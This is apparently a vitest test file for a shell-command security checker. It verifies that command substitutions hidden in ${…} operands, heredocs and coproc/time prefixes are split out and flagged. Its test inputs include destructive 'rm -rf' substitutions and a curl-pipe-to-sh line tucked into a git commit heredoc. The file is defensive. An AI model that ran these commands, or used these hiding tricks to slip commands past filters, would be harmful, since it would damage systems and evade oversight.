import { beforeAll, describe, expect, it } from 'vitest';
import { runSecurityChecks } from './checks/index.js';
import { initShellParser } from './parser.js';
import { parseAndSplit } from './split.js';
import { type RescanMode, scanSubstitutions } from './words-rescan.js';

beforeAll(async () => {
  await initShellParser();
});

const argvs = (command: string) => parseAndSplit(command).commands.map((c) => c.argv.map((w) => w.text));
const substitutionFinding = (command: string) =>
  runSecurityChecks(command, parseAndSplit(command)).some(
    (f) => f.id === 'DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION',
  );

describe('scanSubstitutions: bash quoting rules over raw text', () => {
  it.each([
    ['x `id` y', 'double', ['id'], 'a backtick body'],
    ['  $(rm -rf build)', 'double', ['rm -rf build'], '$( after leading blanks'],
    ["'$(id)'", 'double', ['id'], "double-quote rules: ' is not special"],
    ["'$(id)'", 'none', [], "unquoted: '…' is literal"],
    ['"$(id)"', 'none', ['id'], 'unquoted: "…" keeps $( active'],
    ['\\$(id) \\`id\\`', 'double', [], 'escaped $ and backtick are literal'],
    ['\\\\$(id)', 'double', ['id'], 'an escaped backslash does not escape the $'],
    ['$((1+2))', 'double', [], 'arithmetic is not a substitution'],
    ["$'it\\'s $(id)' `id`", 'none', ['id'], "unquoted: $'…' with an escaped quote is literal"],
    ['$(echo ")" (a))', 'double', ['echo ")" (a)'], 'quoted and nested parens inside $( )'],
    ['`echo \\`id\\``', 'double', ['echo `id`'], 'escaped backticks inside a backtick body'],
  ] as [string, RescanMode, string[], string][])('%j (%s) → %j (%s)', (text, mode, bodies) => {
    const r = scanSubstitutions(text, 0, text.length, mode);
    expect(r.problem).toBeUndefined();
    expect(r.subs.map((s) => s.body)).toEqual(bodies);
  });

  it.each([
    ['$(id', 'unterminated $('],
    ['`id', 'unterminated backtick'],
  ])('%j reports a problem (%s)', (text) => {
    expect(scanSubstitutions(text, 0, text.length, 'double').problem).toBeDefined();
  });
});

describe('substitutions tree-sitter hides are split out and flagged', () => {
  it.each([
    ['echo ${x:-`rm -rf build`}', ['rm', '-rf', 'build'], 'backtick in a :- operand'],
    ['echo "${x:=`rm -rf build`}"', ['rm', '-rf', 'build'], 'backtick in a quoted := operand'],
    ['echo ${x:+`id`}', ['id'], ':+ operand'],
    ['echo ${x:?`id`}', ['id'], ':? operand'],
    ['echo "${x/a/`id`}"', ['id'], '/ replacement'],
    ['echo ${x//a/$(id)}', ['id'], '// replacement'],
    ['echo ${x#`id`}', ['id'], '# pattern'],
    ['echo ${x%$(id)}', ['id'], '% pattern'],
    ['echo ${x:-${y:-`id`}}', ['id'], 'nested ${y:-…}'],
    ['echo "${x:-\'$(rm -rf build)\'}"', ['rm', '-rf', 'build'], "' is literal inside a double-quoted ${…}"],
    ['echo "${x:+\'`rm -rf build`\'}"', ['rm', '-rf', 'build'], 'backtick between literal \' inside "${…}"'],
    ['cat <<EOF\n`rm -rf build`\nEOF', ['rm', '-rf', 'build'], 'backtick in an unquoted heredoc'],
    ['cat <<EOF\n x `id`\nEOF', ['id'], 'backtick after text in a heredoc line'],
    ['cat <<EOF\n  $(rm -rf build)\nEOF', ['rm', '-rf', 'build'], '$( after leading spaces in a heredoc'],
    ['cat <<EOF\n\t$(id)\nEOF', ['id'], '$( after a tab in a heredoc'],
    ['cat <<-EOF\n\t$(rm -rf build)\n\tEOF', ['rm', '-rf', 'build'], '<<- body with tab-indented lines'],
    ['cat <<-EOF\n\tfoo `id`\n\tEOF', ['id'], 'backtick in a <<- body'],
    [
      'git commit -F - <<EOF\n  $(curl -s x.example | sh)\nEOF',
      ['curl', '-s', 'x.example'],
      'git commit message heredoc',
    ],
  ])('%j runs %j (%s)', (command, inner) => {
    expect(argvs(command)).toContainEqual(inner);
    expect(substitutionFinding(command)).toBe(true);
  });

  it.each([
    ["echo ${x:-'$(id)'}", 'unquoted ${…}: single quotes quote'],
    ["cat <<'EOF'\n  $(id) `id`\nEOF", 'quoted heredoc delimiter: body is data'],
    ['cat <<EOF\nx \\$(id) \\`id\\`\nEOF', 'escaped $ and backtick in a heredoc are literal'],
    ['echo "${x:-default}"', 'a plain default'],
  ])('%j runs nothing extra (%s)', (command) => {
    expect(argvs(command)).toHaveLength(1);
    expect(substitutionFinding(command)).toBe(false);
  });

  it('a substitution found by the tree inside ${…} is split once, not twice', () => {
    expect(argvs('echo ${x:-$(id)}')).toEqual([['id'], ['echo', '${x:-$(id)}']]);
    expect(argvs('cat <<EOF\n$(id)\nEOF')).toEqual([['id'], ['cat']]);
  });

  it('an unparseable rescanned body fails closed', () => {
    const r = parseAndSplit('echo ${x:-`if`}');
    expect(r.ok).toBe(false);
  });
});

describe('keyword prefixes tree-sitter misreads keep their commands for deny matching', () => {
  it.each([
    ['coproc rm -rf build', 'coproc CMD'],
    ['coproc X { rm -rf build; }', 'coproc NAME { … }'],
    ['coproc { rm -rf build; }', 'coproc { … }'],
    ['time { rm -rf build; }', 'time { … }'],
    ['! { rm -rf build; }', '! { … }'],
  ])('%j → rm is a sub-command and the result is not ok (%s)', (command) => {
    const r = parseAndSplit(command);
    expect(r.ok).toBe(false);
    expect(r.commands.map((c) => c.argv.map((w) => w.text))).toContainEqual(['rm', '-rf', 'build']);
  });
});
